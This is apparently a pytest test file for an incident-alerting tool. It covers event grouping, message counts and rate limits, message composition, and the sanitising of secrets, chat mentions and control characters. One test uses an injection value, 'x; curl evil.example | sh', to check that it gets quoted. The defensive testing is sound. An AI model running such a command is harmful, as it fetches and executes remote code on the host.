"""Which events are one incident, and how many messages it makes."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

import pytest

from atftctl.decide.alerting import events, webhook
from atftctl.decide.alerting.incidents import QUIET_S, STALE_S, UPDATES, after, due, incidents
from atftctl.decide.alerting.message import Place, compose, uncalled, without
from atftctl.domain.alert import Alert, Conclusion, Notification, ReceivedAlert
from atftctl.domain.errors import Refused
from atftctl.domain.incident_events import Due, Event, RouteState
from atftctl.domain.route import Route

ROUTE = Route("env:ROUTE")
PLACE = Place("service", "host", "/project", ("trainer running",), ("Emergency: phone",))


def operation(at: float, command: str = "rollback --symptom x", code: int = 0, **more: Any) -> Event:
    from datetime import UTC, datetime

    ended = datetime.fromtimestamp(at, UTC).isoformat(timespec="seconds")
    entry = {"operation": f"op-{at:g}", "command": command, "title": "t", "ended": ended, "exit_code": code,
             "outcome": "done", **more}  # fmt: skip
    event = events.of_operation(entry)
    assert event is not None
    return event


def anomaly(at: float) -> Event:
    from datetime import UTC, datetime

    stamp = datetime.fromtimestamp(at, UTC).isoformat(timespec="milliseconds")
    sent = Notification("k", "firing", (Alert("firing", f"{at}", stamp, {"alertname": "A"}),))
    event = events.of_alert(
        ReceivedAlert(f"alert-{at:g}", "alertmanager", stamp, sent, Conclusion("fault", "h", at=stamp))
    )
    assert event is not None
    return event


def verify(at: float) -> Event:
    from datetime import UTC, datetime

    event = events.of_verify(datetime.fromtimestamp(at, UTC).isoformat())
    assert event is not None
    return event


def messages(happened: Sequence[Event], route: Route = ROUTE, until: float = 20_000.0) -> list[tuple[float, Due]]:
    """What a notifier sends that looks each second: as in operations/alerting/notifier.py."""
    sent, states = [], dict[str, RouteState]()
    for second in range(int(until)):
        known = [event for event in happened if event.time <= second]
        for incident in incidents(known):
            state = states.get(incident.id, RouteState())
            message = due(incident, route, state, second)
            if message and message.at <= second:
                states[incident.id] = after(incident, state, second)
                sent.append((second, message))
    return sent


def test_thirty_anomalies_and_three_rollbacks_are_one_message_and_four_updates_at_most() -> None:
    rollbacks = [operation(100), operation(900), operation(2000)]
    anomalies = [anomaly(50 + 70 * number) for number in range(30)]
    sent = messages([*sorted([*rollbacks, *anomalies], key=lambda event: event.time), verify(4000)])
    assert [message.kind for _, message in sent] == ["first", "update", "update", "end"]
    assert sent[0][0] == 50, "people hear at once"
    assert sent[-1][0] == 4000, "and of the end when it came"
    assert len(sent) <= 1 + UPDATES


@pytest.mark.parametrize("every", [1, 10, 61, 400])
def test_no_order_of_events_sends_more(every: int) -> None:
    happened = []
    for number in range(60):
        at = 10.0 + every * number
        happened.append([anomaly(at), operation(at, code=5), operation(at, code=1), operation(at)][number % 4])
    assert len(messages(happened, until=10 + every * 62)) <= 1 + UPDATES


def test_the_last_update_is_kept_for_the_end() -> None:
    happened = [operation(10), *(operation(100 + 400.0 * number, code=5) for number in range(8)), verify(5000)]
    sent = messages(happened)
    assert [message.kind for _, message in sent] == ["first", "update", "update", "update", "end"]


def test_what_is_urgent_is_told_at_once() -> None:
    sent = messages([operation(10), operation(12, code=5), verify(500)])
    assert [at for at, _ in sent] == [10, 12, 500]


def test_what_happens_within_a_minute_is_one_update() -> None:
    sent = messages([operation(10), operation(20), operation(40), anomaly(50)])
    assert [at for at, _ in sent] == [10, 70]


def test_an_incident_ends_when_it_is_verified_or_stopped_or_quiet() -> None:
    happened = [operation(10), verify(20), operation(30), operation(40, "trainer stop"), operation(50)]
    later = operation(60 + QUIET_S)
    assert [len(incident.events) for incident in incidents([*happened, later])] == [2, 2, 1, 1]
    assert [incident.ending for incident in incidents(happened)] == ["verified", "stopped", ""]


@pytest.mark.parametrize("command", ["config set", "trainer start", "backup", "confirm", "undo", "reenable"])
def test_what_succeeds_and_is_no_rollback_begins_no_incident(command: str) -> None:
    assert incidents([operation(10, command)]) == []
    assert len(incidents([operation(10), operation(20, command)])[0].events) == 2


@pytest.mark.parametrize("code", [1, 4, 5])
def test_a_failed_change_begins_one(code: int) -> None:
    assert incidents([operation(10, "config set", code)])[0].severity == "critical"


def test_an_undo_that_came_because_nobody_confirmed_begins_one() -> None:
    assert incidents([operation(10, "undo", about={"expired": "not confirmed", "undo_of": "x"})])


def test_an_alert_without_a_fault_begins_none() -> None:
    sent = Notification("k", "firing", (Alert("firing", "f", "2026-11-30"),))
    for verdict in ("healthy", "inconclusive"):
        concluded = Conclusion(verdict, "h", at="2026-11-30T10:00:00+00:00")
        assert events.of_alert(ReceivedAlert("a", "alertmanager", "", sent, concluded)) is None
    assert events.of_alert(ReceivedAlert("a", "alertmanager", "", sent)) is None
    died = Conclusion("inconclusive", "it has died", "atftctl diagnose", at="2026-11-30T10:00:00+00:00", died=True)
    event = events.of_alert(ReceivedAlert("a", "alertmanager", "", sent, died))
    assert event and event.begins and event.command == "atftctl diagnose", "a dead trainer is one, whatever it died of"


def test_a_route_hears_only_of_its_severity() -> None:
    critical = Route("env:ROUTE", "critical")
    assert messages([operation(10), verify(30)], critical, 100) == []
    sent = messages([operation(10), operation(20, code=1), verify(30)], critical, 100)
    assert [(at, message.kind) for at, message in sent] == [(20, "first"), (30, "end")]


def test_an_old_incident_is_not_told_when_routes_are_added() -> None:
    incident = incidents([operation(10)])[0]
    assert due(incident, ROUTE, RouteState(), 10 + STALE_S + 1) is None


def test_a_clock_that_was_set_back_delays_no_update() -> None:
    incident = incidents([operation(10), operation(20)])[0]
    message = due(incident, ROUTE, RouteState(sent=1, events=("op-10",), at=90_000.0), 30)
    assert message and message.at == 90


def test_an_operation_that_was_open_and_is_recovered_stays_one_incident() -> None:
    opened = events.of_open("op-50", "rollback op-50 is open", 60)
    before = incidents([opened])[0]
    recovered = incidents([operation(50, code=5)])[0]
    assert before.id == recovered.id == "op-50"


def lines(happened: Iterable[Event], kind: Any = "first") -> str:
    text = compose(incidents(happened)[-1], Due(0, kind), PLACE)
    return "\n".join((text.subject, *text.lines))


def test_a_message_says_what_happened_what_is_true_what_to_decide_and_the_command() -> None:
    text = lines([operation(10, code=1, files=[{"path": "x"}])])
    for part in ("rollback --symptom x op-10: t", "trainer running", "What to decide", "atftctl undo op-10", "1970-01-01 00:00:10 UTC",
                 "The whole story: atftctl incident", "/project",
                 "contact: Emergency"):  # fmt: skip
        assert part in text, text
    both = [operation(10), operation(30), operation(40, "trainer stop"), operation(50)]
    assert "The whole story: atftctl incident op-10 op-30 --html" in lines(both[:2])
    assert "The whole story: atftctl incident op-50 --html" in lines(both), "of this incident only"
    assert "The whole story: atftctl alert show" in lines([anomaly(10)])
    assert "a person must look at it: atftctl recover" in lines([events.of_open("op-1", "open", 1)])
    assert "ended: verify passed" in lines([operation(10), verify(20)], "end")
    assert "22 earlier events" in lines([operation(10 + number) for number in range(30)])


def test_the_id_of_a_foreign_operation_is_no_command() -> None:
    event = operation(10, code=1, files=[{"path": "x"}], operation="x; curl evil.example | sh")
    assert event.command == "atftctl undo 'x; curl evil.example | sh'"


def test_no_name_calls_people_or_hides_a_link() -> None:
    called = uncalled("@everyone <!channel> <@U1> <@&2> [look](http://x.y) mail: oncall@example.org, a < b")
    for call in ("@everyone", "<!", "<@U", "<@&", "]("):
        assert call not in called
    assert "mail: oncall@example.org, a < b" in called


def test_no_value_of_a_setting_is_told() -> None:
    text = lines(
        [operation(10), operation(20, "config set", 1, title="api_key: old → n3w", reason="n3w", changes=["n3w"])]
    )
    assert "config set op-20" in text
    assert "n3w" not in text


def test_secrets_and_control_characters_are_no_part_of_a_message() -> None:
    address = "json://user:p%40ss-word@example.org/Tok3nTok3n/alerts?key=AbcdEf0123"
    text = without(f"alerts of user {address} p@ss-word p%40ss-word Tok3nTok3n AbcdEf0123\x1b[31m\u202e", (address,))
    assert text == r"alerts of user *** *** *** *** ***\x1b[31m\u202e"
    assert without("connection to example.org", (address,), whole=True) == "connection to ***"


def notification(**more: Any) -> dict[str, Any]:
    alert = {"status": "firing", "labels": {"alertname": "A"}, "annotations": {}, "startsAt": "t", "fingerprint": "f"}
    return {"version": "4", "groupKey": "k", "status": "firing", "receiver": "r", "alerts": [alert], **more}


@pytest.mark.parametrize(
    "value",
    [
        None, [], "x", 4, {}, notification(version="3"), notification(version=4), notification(groupKey=""),
        notification(groupKey=7), notification(alerts=[]), notification(alerts={}), notification(alerts=[1]),
        notification(status="?"), notification(alerts=[{"status": "firing"}]), notification(status=None),
        notification(alerts=[{"status": ["firing"], "startsAt": "t", "fingerprint": "f"}]),
    ],
)  # fmt: skip
def test_what_is_no_notification_is_refused(value: Any) -> None:
    with pytest.raises(Refused, match="not a notification of Alertmanager"):
        webhook.read(value)


def test_a_notification_is_cut_to_size_and_made_printable() -> None:
    labels = {f"l{number}": "x" * 10_000 for number in range(500)} | {"alertname": "a\x1b]0;b\x07\nc\ud800"}
    alert = {**notification()["alerts"][0], "labels": labels, "annotations": [1], "fingerprint": "f" * 1000}
    sent = webhook.read(notification(alerts=[alert] * 1000, truncatedAlerts=7, groupKey="k" * 10_000))
    assert len(sent.alerts) == 50
    assert sent.more == 957
    assert sent.alerts[0].name == r"a\x1b]0;b\x07\nc?"
    assert len(sent.alerts[0].labels) == 40
    assert max(map(len, sent.alerts[0].labels.values())) == 300
    assert len(sent.key) == 500
    many = webhook.read(notification(alerts=[alert] * 1000, truncatedAlerts=10**4299 * 9))
    assert many.more < 2_000_000, "Python shows no number of more digits"
